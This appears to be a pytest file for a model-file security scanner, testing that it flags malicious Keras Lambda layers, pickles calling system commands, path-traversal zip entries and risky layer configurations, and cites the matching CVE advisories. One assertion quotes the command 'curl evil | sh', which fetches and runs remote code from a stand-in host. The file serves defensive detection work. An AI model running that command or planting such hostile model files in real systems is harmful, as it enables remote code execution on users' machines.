"""What `scan` says about the files of a model: ordinary ones, libraries, code, and what cannot be read."""

import shutil
from pathlib import Path

import pytest
from tests.formats.keras.samples import h5, keras
from tests.frontends.lite.ops.custom.test_detection import CASES as DETECTION
from tests.frontends.lite.ops.test_quantized_convolution import CASES as QUANTIZED
from tests.frontends.lite.ops.test_recurrent import CASES as RECURRENT
from tests.scan.hostile_files import (
    LAMBDA,
    MODEL,
    SYSTEM,
    as_file,
    external_storage,
    in_h5,
    in_keras,
    layer,
    model_of,
    saved_model_with,
    zipped,
)  # fmt: skip

import tfport
from tfport.cli.main import main

ROOT = Path(__file__).parent.parent


def risks(path) -> dict[str, object]:
    return {risk.code: risk for risk in tfport.scan(path).risks}


@pytest.mark.parametrize(
    "path",
    [
        "models/half_plus_two_tf2",
        "models/table_from_file",
        "models/keras_lstm",
        "models/frozen",
        "models/sharded_checkpoint",
    ],
)
def test_ordinary_models_have_nothing_above_a_note(path):
    report = tfport.scan(ROOT / path)
    assert report.severity in (None, "note"), str(report)


def test_an_archive_of_an_ordinary_model(tmp_path):
    shutil.make_archive(str(tmp_path / "model"), "gztar", ROOT / "models" / "half_plus_two_tf2")
    assert tfport.scan(tmp_path / "model.tar.gz").severity in (None, "note")


def test_an_hdf5_file_anywhere_in_an_archive_is_no_second_format(tmp_path):
    data = keras()
    shifted = keras(a=bytes(512 * 4 - data.index(b"\x89HDF") % 512))
    for content in (data, shifted):
        assert tfport.scan(as_file("m.keras", content)(tmp_path)).severity is None


def test_stores_that_link_to_their_files_are_ordinary(tmp_path):
    (tmp_path / "blobs").mkdir()
    (tmp_path / "snapshot").mkdir()
    (tmp_path / "blobs" / "abc").write_bytes(keras(model_of(LAMBDA)))
    (tmp_path / "snapshot" / "model.keras").symlink_to("../blobs/abc")
    found = risks(tmp_path / "snapshot")
    assert found["TFP926"].severity == "note"
    assert found["TFP911"].severity == "error"  # and they are looked at


def test_a_library_is_named_by_what_it_imports(tmp_path):
    library = next(iter(sorted(ROOT.glob("libraries/**/*.so"))), None)
    if library is None:
        pytest.skip("no libraries are recorded")
    found = risks(saved_model_with("assets.extra/op.so", library.read_bytes())(tmp_path))
    assert "an ELF library or program" in found["TFP920"].message
    assert "cannot be read" not in found["TFP920"].message


def test_code_is_shown_without_being_run(tmp_path):
    why = risks(in_h5(model_of(LAMBDA))(tmp_path))["TFP911"].why
    assert "`os`" in why
    assert "`system`" in why
    assert "'curl evil | sh'" in why


@pytest.mark.parametrize(
    ("maker", "code", "advisory"),
    [
        (in_h5(model_of(LAMBDA)), "TFP911", "CVE-2025-9905, fixed in Keras 3.11.3"),
        (in_keras(model_of(LAMBDA)), "TFP911", "CVE-2024-3660, fixed in Keras 2.13.1"),
        (in_keras(model_of(layer("f", module="os"))), "TFP913", "CVE-2025-1550, fixed in Keras 3.9.0"),
        (in_keras(model_of(layer("get_file", module="keras.utils"))), "TFP914", "CVE-2025-8747"),
        (in_keras(model_of(layer("StringLookup", {"vocabulary": "/x"}))), "TFP915", "CVE-2025-12058"),
        (in_keras(model_of(layer("TFSMLayer", {"filepath": "/x"}))), "TFP915", "3.12.1 and 3.13.2"),
        (in_keras(model_of(layer("TorchModuleWrapper", {"module": "x"}))), "TFP912", "CVE-2025-49655"),
    ],
)
def test_advisories_name_the_release_that_refuses_it(maker, code, advisory, tmp_path):
    assert advisory in risks(maker(tmp_path))[code].why


def test_a_link_is_reported_once(tmp_path):
    path = in_keras(**{"model.weights.h5": h5(external_storage)})(tmp_path)
    assert [risk.code for risk in tfport.scan(path).risks] == ["TFP915"]


def test_a_damaged_file_stays_an_error(tmp_path):
    for name, data in [
        ("m.keras", keras()[:-40]),
        ("m.pb", b"\x0a\xff"),
        ("m.h5", b"\x89HDF\r\n\x1a\n" + bytes(9)),
    ]:
        with pytest.raises(tfport.Error):
            tfport.scan(as_file(name, data)(tmp_path))


def test_a_damaged_model_beside_a_pickle_is_reported(tmp_path):
    path = saved_model_with("saved_model.pb", b"\x0a\xff\xff")(tmp_path)
    (path / "x.pkl").write_bytes(SYSTEM)
    found = risks(path)
    assert found["TFP921"].severity == "error"
    assert found["TFP929"].severity == "note"


def test_exit_codes(tmp_path):
    assert main(["scan", str(as_file("m.pkl", SYSTEM)(tmp_path))]) == 1
    assert main(["scan", str(in_keras(MODEL)(tmp_path))]) == 0
    assert main(["scan", str(as_file("m.zip", zipped([("../x", b"x")]))(tmp_path))]) == 1


def test_checkpoints_have_nothing_to_run():
    path = ROOT / "models" / "checkpoint_of_objects"
    assert tfport.scan(path).risks == []


@pytest.mark.parametrize("case", [QUANTIZED[0], RECURRENT[0], DETECTION[0]], ids=str)
def test_what_tfport_makes_of_a_tensorflow_lite_operator_needs_no_library(case, tmp_path):
    (tmp_path / "m.tflite").write_bytes(case.model)
    assert risks(tmp_path / "m.tflite") == {}
